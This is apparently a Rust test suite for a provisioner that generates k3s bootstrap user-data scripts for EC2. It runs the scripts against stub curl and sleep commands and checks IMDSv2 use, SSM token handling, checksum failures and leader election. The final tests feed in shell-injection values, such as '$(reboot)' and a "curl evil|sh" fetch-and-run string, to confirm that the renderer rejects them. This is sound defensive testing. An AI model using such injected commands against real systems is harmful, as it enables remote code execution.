//! The user-data scripts: `shellcheck`-clean, and executed for real in a temporary root
//! against stub commands first on PATH — `curl` (IMDSv2, SSM with SigV4, the GitHub release
//! downloads, the API behind the NLB) and `sleep` — asserting the files they write and the
//! requests they make, for the first server, a joining server, a rebooted first server and
//! an agent, and the failures (bad checksum, missing token).

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use provisioner::bootstrap::{user_data, Endpoints, ParameterNames, K3S_VERSION};
use provisioner::template::{Environment, NodeRole};

use crate::common::{dev_env, repo_root, require_tool};

const NLB: &str = "dev-nlb-0123456789.elb.us-east-1.amazonaws.com";
const API: &str = "api.dev.example.com";
const TOKEN: &str = "Zq8N3vYt6LwS2kRb9XcD4mHf7JpA1uEg5TiVoWnKrBsCyQxMdLzPaFhGjUeIl0Ot";
const AGENT_TOKEN: &str = "Ag3ntT0kenVyt6LwS2kRb9XcD4mHf7JpA1uEg5TiVoWnKrBsCyQxMdLzPaFhGjUe";

fn endpoints() -> Endpoints {
    Endpoints {
        nlb_dns: NLB.into(),
        api_name: API.into(),
    }
}

fn script_for(env: &Environment, role: NodeRole) -> String {
    let pool = env
        .node_pools
        .iter()
        .find(|p| p.role == role)
        .expect("dev.yaml has a pool of each role");
    user_data(env, pool, &endpoints()).expect("render user-data")
}

const STUB_CURL: &str = r#"#!/bin/sh
# Stub curl for the user-data tests: IMDSv2, SSM (JSON 1.1 + SigV4), GitHub downloads.
state="$STUB_STATE"
out=; url=; data=; method=GET; cfg_stdin=0; target=; token_hdr=; sigv4=
printf '%s\n' "$*" >>"$state/argv.log"
while [ $# -gt 0 ]; do
    case "$1" in
    -o) out=$2; shift ;;
    -w) shift ;;
    --connect-timeout | --max-time) shift ;;
    -X) method=$2; shift ;;
    -K) [ "$2" = - ] && cfg_stdin=1; shift ;;
    -H)
        case "$2" in
        X-Amz-Target:*) target=${2#X-Amz-Target: } ;;
        X-aws-ec2-metadata-token:*) token_hdr=${2#X-aws-ec2-metadata-token: } ;;
        esac
        shift ;;
    --data-binary) data=${2#@}; shift ;;
    --aws-sigv4) sigv4=$2; shift ;;
    -*) ;;
    *) url=$1 ;;
    esac
    shift
done
if [ "$cfg_stdin" = 1 ]; then cat >"$state/curl-config.last"; fi
emit() { if [ -n "$out" ]; then printf '%s' "$1" >"$out"; else printf '%s' "$1"; fi; }
case "$url" in
http://169.254.169.254/latest/api/token)
    [ "$method" = PUT ] || exit 22
    echo "imds PUT api/token" >>"$state/requests.log"
    emit IMDSTOKEN
    exit 0 ;;
http://169.254.169.254/latest/meta-data/*)
    path=${url#http://169.254.169.254/latest/meta-data/}
    if [ "$token_hdr" != IMDSTOKEN ]; then echo "imds WITHOUT TOKEN $path" >>"$state/requests.log"; exit 22; fi
    echo "imds GET $path" >>"$state/requests.log"
    case "$path" in
    placement/region) emit us-east-1 ;;
    placement/availability-zone) emit us-east-1b ;;
    instance-id) emit "$STUB_INSTANCE_ID" ;;
    instance-type) emit t3.medium ;;
    local-ipv4) emit 10.0.1.23 ;;
    services/domain) emit amazonaws.com ;;
    iam/security-credentials/) emit node-role ;;
    iam/security-credentials/node-role) emit '{
  "Code" : "Success",
  "AccessKeyId" : "ASIASTUBKEY",
  "SecretAccessKey" : "stubSecret",
  "Token" : "stubSession"
}' ;;
    *) exit 22 ;;
    esac
    exit 0 ;;
https://ssm.us-east-1.amazonaws.com/)
    body=$(cat "$data")
    name=$(printf '%s' "$body" | sed -n 's/.*"Name":"\([^"]*\)".*/\1/p')
    file="$state/params/$(printf '%s' "$name" | tr / _)"
    echo "ssm $target $name sigv4=$sigv4" >>"$state/requests.log"
    case "$target" in
    AmazonSSM.GetParameter)
        if [ -f "$file" ]; then emit "{\"Parameter\":$(cat "$file")}"; printf 200
        else emit '{"__type":"ParameterNotFound"}'; printf 400; fi ;;
    AmazonSSM.PutParameter)
        printf '%s\n' "$body" >>"$state/puts.log"
        if [ -f "$file" ] && ! printf '%s' "$body" | grep -q '"Overwrite":true'; then
            emit '{"__type":"ParameterAlreadyExists","message":"exists"}'; printf 400
        else
            printf '%s' "$body" | sed 's/,"Tags":\[[^]]*\]//' >"$file"; emit '{"Version":1}'; printf 200
        fi ;;
    *) printf 400 ;;
    esac
    exit 0 ;;
https://github.com/k3s-io/k3s/releases/download/* | https://mirror.example/k3s/v*/k3s*  | https://mirror.example/k3s/v*/sha256sum-*.txt)
    echo "download $url" >>"$state/requests.log"
    case "${url##*/}" in
    k3s | k3s-arm64) printf 'fake k3s binary\n' >"$out" ;;
    k3s-airgap-images-amd64.tar.zst) printf 'fake images\n' >"$out" ;;
    sha256sum-*.txt)
        sum=$(printf 'fake k3s binary\n' | sha256sum | cut -d' ' -f1)
        images=$(printf 'fake images\n' | sha256sum | cut -d' ' -f1)
        if [ -n "${STUB_BAD_CHECKSUM:-}" ]; then sum=$(printf 'something else\n' | sha256sum | cut -d' ' -f1); fi
        printf '%s  k3s-airgap-images-amd64.tar\n%s  k3s-airgap-images-amd64.tar.zst\n%s  k3s\n%s  k3s-arm64\n' \
            aaaa0000aaaa0000aaaa0000aaaa0000aaaa0000aaaa0000aaaa0000aaaa0000 "$images" "$sum" "$sum" >"$out" ;;
    *) exit 22 ;;
    esac
    exit 0 ;;
https://raw.githubusercontent.com/k3s-io/k3s/*/install.sh | https://mirror.example/k3s/v*/install.sh)
    echo "download $url" >>"$state/requests.log"
    cat "$STUB_INSTALL_SH" >"$out"
    exit 0 ;;
https://*:6443/cacerts)
    echo "api GET $url" >>"$state/requests.log"
    if [ -n "${STUB_API_DOWN:-}" ]; then exit 7; fi
    exit 0 ;;
esac
echo "UNEXPECTED curl $url" >>"$state/requests.log"
exit 7
"#;

/// What k3s's install script does here: record how it was called, check the binary is in
/// place, and (for a server) write the admin kubeconfig as k3s would.
const STUB_INSTALL_SH: &str = r#"#!/bin/sh
set -eu
{
    echo "INSTALL_K3S_SKIP_DOWNLOAD=$INSTALL_K3S_SKIP_DOWNLOAD"
    echo "INSTALL_K3S_VERSION=$INSTALL_K3S_VERSION"
    echo "INSTALL_K3S_EXEC=$INSTALL_K3S_EXEC"
    echo "INSTALL_K3S_BIN_DIR=$INSTALL_K3S_BIN_DIR"
    if [ -f "$K3S_BOOTSTRAP_ROOT/etc/rancher/k3s/config.yaml" ]; then echo "config present"; fi
} >"$STUB_STATE/install.env"
[ -x "$INSTALL_K3S_BIN_DIR/k3s" ] || { echo "k3s binary missing" >&2; exit 1; }
if [ "$INSTALL_K3S_EXEC" = server ]; then
    cat >"$K3S_BOOTSTRAP_ROOT/etc/rancher/k3s/k3s.yaml" <<'KC'
apiVersion: v1
clusters:
- cluster:
    certificate-authority-data: Q0E=
    server: https://127.0.0.1:6443
  name: default
contexts:
- context:
    cluster: default
    user: default
  name: default
current-context: default
kind: Config
preferences: {}
users:
- name: default
  user:
    client-certificate-data: Q0VSVA==
    client-key-data: S0VZ
# a "quoted" \ comment, to check the JSON escaping
KC
fi
"#;

const STUB_SLEEP: &str = "#!/bin/sh\nexit 0\n";

struct Run {
    _dir: tempfile::TempDir,
    root: PathBuf,
    state: PathBuf,
    tmp: PathBuf,
    output: Output,
}

impl Run {
    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.root.join(rel))
            .unwrap_or_else(|e| panic!("{rel}: {e}\n{}", self.log()))
    }
    fn state(&self, rel: &str) -> String {
        std::fs::read_to_string(self.state.join(rel)).unwrap_or_default()
    }
    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.output.stderr).into_owned()
    }
    fn log(&self) -> String {
        format!(
            "exit: {}\nstdout:\n{}\nstderr:\n{}\nrequests:\n{}",
            self.output.status,
            String::from_utf8_lossy(&self.output.stdout),
            self.stderr(),
            self.state("requests.log")
        )
    }
    fn assert_ok(&self) {
        assert!(self.output.status.success(), "{}", self.log());
    }
    /// The join token must not leak into output, argv, config files or temp files.
    fn assert_token_never_leaked(&self) {
        let mut places = vec![
            (
                "stdout",
                String::from_utf8_lossy(&self.output.stdout).into_owned(),
            ),
            ("stderr", self.stderr()),
            ("argv", self.state("argv.log")),
            ("curl config", self.state("curl-config.last")),
            ("puts", self.state("puts.log")),
        ];
        if let Ok(c) = std::fs::read_to_string(self.root.join("etc/rancher/k3s/config.yaml")) {
            places.push(("config.yaml", c));
        }
        for entry in std::fs::read_dir(&self.tmp).unwrap() {
            let p = entry.unwrap().path();
            if p.is_file() {
                places.push((
                    "a leftover temp file",
                    std::fs::read_to_string(&p).unwrap_or_default(),
                ));
            }
        }
        for (place, text) in places {
            assert!(!text.contains(TOKEN), "the join token leaked into {place}");
            assert!(
                !text.contains(AGENT_TOKEN),
                "the agent token leaked into {place}"
            );
        }
    }
}

/// Runs `script` as a node with `instance_id`; `params` are SSM parameters that exist
/// before boot (name, stored JSON).
fn run_script(
    script: &str,
    instance_id: &str,
    params: &[(String, String)],
    bad_checksum: bool,
) -> Run {
    let extra: &[(&str, &str)] = if bad_checksum {
        &[("STUB_BAD_CHECKSUM", "1")]
    } else {
        &[]
    };
    run_script_with(script, instance_id, params, extra)
}

/// [`run_script`] with extra environment for the stubs (`STUB_API_DOWN`, …).
fn run_script_with(
    script: &str,
    instance_id: &str,
    params: &[(String, String)],
    extra_env: &[(&str, &str)],
) -> Run {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    let state = dir.path().join("state");
    let bin = dir.path().join("bin");
    let tmp = dir.path().join("tmp");
    for d in [&root, &state.join("params"), &bin, &tmp] {
        std::fs::create_dir_all(d).unwrap();
    }
    let install = |path: &Path, text: &str| {
        std::fs::write(path, text).unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
    };
    install(&bin.join("curl"), STUB_CURL);
    install(&bin.join("sleep"), STUB_SLEEP);
    install(&state.join("install.sh"), STUB_INSTALL_SH);
    for (name, json) in params {
        std::fs::write(state.join("params").join(name.replace('/', "_")), json).unwrap();
    }
    let script_path = dir.path().join("user-data.sh");
    std::fs::write(&script_path, script).unwrap();
    let mut cmd = Command::new("/bin/sh");
    cmd.arg(&script_path)
        .env_clear()
        .env(
            "PATH",
            format!("{}:/usr/local/bin:/usr/bin:/bin", bin.display()),
        )
        .env("HOME", &tmp)
        .env("TMPDIR", &tmp)
        .env("K3S_BOOTSTRAP_ROOT", &root)
        .env("STUB_STATE", &state)
        .env("STUB_INSTANCE_ID", instance_id)
        .env("STUB_INSTALL_SH", state.join("install.sh"));
    cmd.envs(extra_env.iter().copied());
    let output = cmd.output().expect("run /bin/sh");
    Run {
        _dir: dir,
        root,
        state,
        tmp,
        output,
    }
}

fn token_param(env: &Environment) -> (String, String) {
    let name = ParameterNames::new(&env.name).token();
    let json = format!(r#"{{"Name":"{name}","Type":"SecureString","Value":"{TOKEN}"}}"#);
    (name, json)
}

fn agent_token_param(env: &Environment) -> (String, String) {
    let name = ParameterNames::new(&env.name).agent_token();
    let json = format!(r#"{{"Name":"{name}","Type":"SecureString","Value":"{AGENT_TOKEN}"}}"#);
    (name, json)
}

fn lock_param(env: &Environment, holder: &str) -> (String, String) {
    let name = ParameterNames::new(&env.name).init_lock();
    let json = format!(r#"{{"Name":"{name}","Type":"String","Value":"{holder}"}}"#);
    (name, json)
}

fn assert_common_boot(run: &Run, env: &Environment, exec: &str) {
    let requests = run.state("requests.log");
    assert!(
        requests.starts_with("imds PUT api/token\n"),
        "IMDSv2 token first:\n{requests}"
    );
    assert!(
        !requests.contains("WITHOUT TOKEN"),
        "an IMDS read without the v2 token:\n{requests}"
    );
    assert!(!requests.contains("UNEXPECTED"), "{requests}");
    let version_in_url = K3S_VERSION.replace('+', "%2B");
    assert!(requests.contains(&format!(
        "download https://github.com/k3s-io/k3s/releases/download/{version_in_url}/"
    )));
    assert!(requests.contains(&format!(
        "download https://raw.githubusercontent.com/k3s-io/k3s/{version_in_url}/install.sh"
    )));
    let names = ParameterNames::new(&env.name);
    let got = |name: &str| {
        requests.contains(&format!(
            "ssm AmazonSSM.GetParameter {name} sigv4=aws:amz:us-east-1:ssm"
        ))
    };
    // Every node reads the agent token; only servers read the server token.
    assert!(got(&names.agent_token()), "{requests}");
    assert_eq!(got(&names.token()), exec == "server", "{requests}");
    // Every curl is bounded in time.
    for line in run.state("argv.log").lines() {
        assert!(
            line.contains("--connect-timeout") && line.contains("--max-time"),
            "an unbounded curl: {line}"
        );
    }
    // Credentials reach curl on stdin, not on its command line.
    assert!(run
        .state("curl-config.last")
        .contains("user = \"ASIASTUBKEY:stubSecret\""));
    assert!(!run.state("argv.log").contains("stubSecret"));
    // The token file: exactly the token this role joins with, mode 0600; a server also
    // keeps the agent token it hands to agents.
    if exec == "server" {
        assert_eq!(run.read("etc/rancher/k3s/token"), TOKEN);
        assert_eq!(run.read("etc/rancher/k3s/agent-token"), AGENT_TOKEN);
    } else {
        assert_eq!(run.read("etc/rancher/k3s/token"), AGENT_TOKEN);
        assert!(!run.root.join("etc/rancher/k3s/agent-token").exists());
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(run.root.join("etc/rancher/k3s/token"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    // The verified binary is installed; the install script ran the documented pinned way.
    assert_eq!(run.read("usr/local/bin/k3s"), "fake k3s binary\n");
    let install = run.state("install.env");
    assert!(
        install.contains("INSTALL_K3S_SKIP_DOWNLOAD=true\n"),
        "{install}"
    );
    assert!(
        install.contains(&format!("INSTALL_K3S_VERSION={K3S_VERSION}\n")),
        "{install}"
    );
    assert!(
        install.contains(&format!("INSTALL_K3S_EXEC={exec}\n")),
        "{install}"
    );
    assert!(
        install.contains("config present"),
        "config.yaml must exist before k3s starts"
    );
    let config = run.read("etc/rancher/k3s/config.yaml");
    assert!(
        config.contains("token-file: \"/etc/rancher/k3s/token\"\n"),
        "{config}"
    );
    assert!(config.contains("node-ip: \"10.0.1.23\"\n"), "{config}");
    for label in [
        format!("provisioner.env={}", env.name),
        "topology.kubernetes.io/zone=us-east-1b".to_owned(),
        "topology.kubernetes.io/region=us-east-1".to_owned(),
        "node.kubernetes.io/instance-type=t3.medium".to_owned(),
    ] {
        assert!(
            config.contains(&format!("  - \"{label}\"\n")),
            "{label}:\n{config}"
        );
    }
    run.assert_token_never_leaked();
}

#[test]
fn the_first_server_initialises_the_cluster_and_publishes_the_kubeconfig() {
    let env = dev_env();
    let names = ParameterNames::new(&env.name);
    let script = script_for(&env, NodeRole::K3sServer);
    assert!(
        script.len() < 14 * 1024,
        "EC2 user-data is limited to 16 KiB: {}",
        script.len()
    );
    assert!(!script.contains("@@") && !script.contains("shellcheck source"));
    let run = run_script(
        &script,
        "i-first",
        &[token_param(&env), agent_token_param(&env)],
        false,
    );
    run.assert_ok();
    assert_common_boot(&run, &env, "server");
    let config = run.read("etc/rancher/k3s/config.yaml");
    assert!(config.contains("cluster-init: true\n"), "{config}");
    assert!(!config.contains("server:"), "{config}");
    assert!(
        config.contains(&format!("tls-san:\n  - \"{NLB}\"\n  - \"{API}\"\n")),
        "{config}"
    );
    assert!(
        config.contains("  - \"proximity.dev/pool=servers\"\n"),
        "{config}"
    );
    assert!(
        config.contains("disable:\n  - traefik\n  - servicelb\n"),
        "{config}"
    );
    assert!(
        config.contains("agent-token-file: \"/etc/rancher/k3s/agent-token\"\n"),
        "{config}"
    );
    assert!(
        config.contains("node-taint:\n  - \"CriticalAddonsOnly=true:NoExecute\"\n"),
        "servers run only control-plane pods: {config}"
    );
    // No waiting for an API that does not exist yet.
    assert!(!run.state("requests.log").contains("cacerts"));

    let puts: Vec<serde_json::Value> = run
        .state("puts.log")
        .lines()
        .map(|l| serde_json::from_str(l).expect("PutParameter bodies are JSON"))
        .collect();
    assert_eq!(puts.len(), 2, "{puts:?}");
    // The election: an atomic create of the lock, tagged for `down`.
    assert_eq!(puts[0]["Name"], names.init_lock());
    assert_eq!(puts[0]["Value"], "i-first");
    assert_eq!(puts[0]["Type"], "String");
    assert!(puts[0].get("Overwrite").is_none());
    assert_eq!(puts[0]["Tags"][0]["Key"], "provisioner:env");
    // The kubeconfig, server rewritten to the API name, as a SecureString.
    assert_eq!(puts[1]["Name"], names.kubeconfig());
    assert_eq!(puts[1]["Type"], "SecureString");
    assert_eq!(puts[1]["Tags"][0]["Value"], env.name.as_str());
    let kubeconfig = puts[1]["Value"].as_str().unwrap();
    assert!(
        kubeconfig.contains(&format!("server: https://{API}:6443\n")),
        "{kubeconfig}"
    );
    assert!(!kubeconfig.contains("127.0.0.1"));
    assert!(kubeconfig.contains("client-key-data: S0VZ\n"));
    assert!(
        kubeconfig.contains("# a \"quoted\" \\ comment"),
        "JSON escaping: {kubeconfig}"
    );
}

#[test]
fn another_server_joins_through_the_nlb() {
    let env = dev_env();
    let run = run_script(
        &script_for(&env, NodeRole::K3sServer),
        "i-second",
        &[
            token_param(&env),
            agent_token_param(&env),
            lock_param(&env, "i-first"),
        ],
        false,
    );
    run.assert_ok();
    assert_common_boot(&run, &env, "server");
    let config = run.read("etc/rancher/k3s/config.yaml");
    assert!(
        config.contains(&format!("server: \"https://{NLB}:6443\"\n")),
        "{config}"
    );
    assert!(!config.contains("cluster-init"), "{config}");
    assert!(
        config.contains(&format!("  - \"{API}\"\n")),
        "tls-san: {config}"
    );
    let requests = run.state("requests.log");
    assert!(
        requests.contains(&format!("api GET https://{NLB}:6443/cacerts")),
        "{requests}"
    );
    // Tried the election, lost it, published nothing.
    let puts = run.state("puts.log");
    assert_eq!(puts.lines().count(), 1, "{puts}");
    assert!(!puts.contains("kubeconfig"));
}

#[test]
fn a_rebooted_first_server_keeps_its_role() {
    let env = dev_env();
    let run = run_script(
        &script_for(&env, NodeRole::K3sServer),
        "i-first",
        &[
            token_param(&env),
            agent_token_param(&env),
            lock_param(&env, "i-first"),
        ],
        false,
    );
    run.assert_ok();
    let config = run.read("etc/rancher/k3s/config.yaml");
    assert!(config.contains("cluster-init: true\n"), "{config}");
    // The kubeconfig exists from the first boot? Here it does not, so it is created; the
    // overwrite path is covered by publishing twice below.
    let second = run_script(
        &script_for(&env, NodeRole::K3sServer),
        "i-first",
        &[
            token_param(&env),
            agent_token_param(&env),
            lock_param(&env, "i-first"),
            (
                ParameterNames::new(&env.name).kubeconfig(),
                r#"{"Name":"x","Value":"old"}"#.into(),
            ),
        ],
        false,
    );
    second.assert_ok();
    let puts: Vec<serde_json::Value> = second
        .state("puts.log")
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let last = puts.last().unwrap();
    assert_eq!(last["Overwrite"], true, "{puts:?}");
    assert!(
        last.get("Tags").is_none(),
        "SSM refuses Tags with Overwrite"
    );
}

#[test]
fn a_server_takes_over_when_the_elected_one_never_brings_the_api_up() {
    let mut env = dev_env();
    env.cluster.init_lease_secs = 10;
    let names = ParameterNames::new(&env.name);
    let run = run_script_with(
        &script_for(&env, NodeRole::K3sServer),
        "i-second",
        &[
            token_param(&env),
            agent_token_param(&env),
            lock_param(&env, "i-dead"),
        ],
        &[("STUB_API_DOWN", "1")],
    );
    run.assert_ok();
    let stderr = run.stderr();
    assert!(
        stderr.contains("the API did not answer within 10s of i-dead's election: opening round 2"),
        "{}",
        run.log()
    );
    // It polled the API for the lease (10 s / 5 s + 1 tries), then won round 2.
    let polls = run.state("requests.log").matches("/cacerts").count();
    assert_eq!(polls, 3, "{}", run.log());
    let puts: Vec<serde_json::Value> = run
        .state("puts.log")
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(puts[0]["Name"], names.init_lock());
    assert_eq!(puts[1]["Name"], format!("{}-2", names.init_lock()));
    assert_eq!(puts[1]["Value"], "i-second");
    assert_eq!(puts.last().unwrap()["Name"], names.kubeconfig());
    let config = run.read("etc/rancher/k3s/config.yaml");
    assert!(config.contains("cluster-init: true\n"), "{config}");

    // A server booting after the takeover follows the latest round and joins.
    let late = run_script(
        &script_for(&env, NodeRole::K3sServer),
        "i-third",
        &[
            token_param(&env),
            agent_token_param(&env),
            lock_param(&env, "i-dead"),
            (
                format!("{}-2", names.init_lock()),
                format!(
                    r#"{{"Name":"{}-2","Type":"String","Value":"i-second"}}"#,
                    names.init_lock()
                ),
            ),
        ],
        false,
    );
    late.assert_ok();
    assert!(
        late.stderr()
            .contains("(i-second holds /provisioner/dev/k3s/init-server-2)"),
        "{}",
        late.log()
    );
    let config = late.read("etc/rancher/k3s/config.yaml");
    assert!(!config.contains("cluster-init"), "{config}");
}

#[test]
fn an_agent_joins_with_its_pool_labels() {
    let env = dev_env();
    let run = run_script(
        &script_for(&env, NodeRole::K3sAgent),
        "i-agent",
        &[agent_token_param(&env)],
        false,
    );
    run.assert_ok();
    assert_common_boot(&run, &env, "agent");
    let config = run.read("etc/rancher/k3s/config.yaml");
    assert!(
        config.contains(&format!("server: \"https://{NLB}:6443\"\n")),
        "{config}"
    );
    assert!(!config.contains("tls-san"), "{config}");
    assert!(!config.contains("cluster-init"), "{config}");
    assert!(
        config.contains("  - \"proximity.dev/pool=agents\"\n"),
        "{config}"
    );
    assert_eq!(run.state("puts.log"), "", "agents write nothing to SSM");
}

#[test]
fn a_checksum_mismatch_installs_nothing() {
    let env = dev_env();
    let run = run_script(
        &script_for(&env, NodeRole::K3sAgent),
        "i-agent",
        &[agent_token_param(&env)],
        true,
    );
    assert!(!run.output.status.success(), "{}", run.log());
    assert!(
        run.stderr().contains("checksum mismatch for k3s"),
        "{}",
        run.log()
    );
    assert!(!run.root.join("usr/local/bin/k3s").exists());
    assert_eq!(
        run.state("install.env"),
        "",
        "the install script must not run"
    );
}

#[test]
fn a_missing_join_token_fails_naming_the_parameter() {
    let env = dev_env();
    let run = run_script(&script_for(&env, NodeRole::K3sAgent), "i-agent", &[], false);
    assert!(!run.output.status.success());
    let token = ParameterNames::new(&env.name).agent_token();
    assert!(
        run.stderr()
            .contains(&format!("could not read the join token parameter {token}")),
        "{}",
        run.log()
    );
    assert!(run.stderr().contains("ParameterNotFound"), "{}", run.log());
    assert!(!run.root.join("etc/rancher/k3s/token").exists());
    assert!(!run.root.join("usr/local/bin/k3s").exists());
}

#[test]
fn a_mirror_serves_k3s_and_the_air_gap_images_with_their_checksums() {
    let mut env = dev_env();
    env.cluster.k3s_mirror = Some("https://mirror.example/k3s/".into());
    env.cluster.k3s_airgap_images = true;
    let run = run_script(
        &script_for(&env, NodeRole::K3sAgent),
        "i-agent",
        &[agent_token_param(&env)],
        false,
    );
    run.assert_ok();
    let requests = run.state("requests.log");
    let base = format!(
        "https://mirror.example/k3s/{}",
        K3S_VERSION.replace('+', "%2B")
    );
    for asset in [
        "k3s",
        "sha256sum-amd64.txt",
        "k3s-airgap-images-amd64.tar.zst",
        "install.sh",
    ] {
        assert!(
            requests.contains(&format!("download {base}/{asset}\n")),
            "{asset}:\n{requests}"
        );
    }
    assert!(!requests.contains("github"), "{requests}");
    assert_eq!(
        run.read("var/lib/rancher/k3s/agent/images/k3s-airgap-images-amd64.tar.zst"),
        "fake images\n"
    );
    assert!(run
        .stderr()
        .contains("checksum of k3s-airgap-images-amd64.tar.zst verified"));

    // A mirror URL that is not https, or that a shell would read, is refused.
    for bad in [
        "http://mirror.example/k3s",
        "https://mirror.example/$(reboot)",
        "https://mirror.example/a b",
    ] {
        env.cluster.k3s_mirror = Some(bad.into());
        let err = user_data(&env, &env.node_pools[0], &endpoints()).unwrap_err();
        assert!(err.to_string().starts_with("cluster.k3s_mirror:"), "{err}");
    }
}

#[test]
fn user_data_scripts_pass_shellcheck() {
    let Some(shellcheck) = require_tool("shellcheck", "apt-get install shellcheck (scripts/setup)")
    else {
        return;
    };
    let env = dev_env();
    let dir = tempfile::tempdir().unwrap();
    let mut files = Vec::new();
    for pool in &env.node_pools {
        let p = dir.path().join(format!("{}.sh", pool.name));
        std::fs::write(&p, user_data(&env, pool, &endpoints()).unwrap()).unwrap();
        files.push(p);
    }
    let sources = repo_root().join("provisioner/userdata");
    for f in ["k3s-server.sh", "k3s-agent.sh", "k3s-common.sh"] {
        files.push(sources.join(f));
    }
    let out = Command::new(shellcheck)
        .args(["-x", "-s", "sh", "-S", "style"])
        .args(&files)
        .output()
        .expect("run shellcheck");
    assert!(
        out.status.success(),
        "shellcheck:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn user_data_rejects_values_that_could_inject_shell() {
    let env = dev_env();
    let pool = &env.node_pools[0];
    for (nlb, api) in [
        ("x$(reboot).elb.amazonaws.com", API),
        (NLB, "api.example.com'; curl evil|sh; '"),
        (NLB, "api example.com"),
    ] {
        let err = user_data(
            &env,
            pool,
            &Endpoints {
                nlb_dns: nlb.into(),
                api_name: api.into(),
            },
        )
        .unwrap_err();
        assert!(
            err.to_string().contains("is not allowed in user-data"),
            "{err}"
        );
    }
    let mut old = env.clone();
    old.cluster.k3s_version = "v1.32.5+k3s1".into();
    let err = user_data(&old, &old.node_pools[0], &endpoints()).unwrap_err();
    assert!(err.to_string().starts_with("cluster.k3s_version:"), "{err}");
}
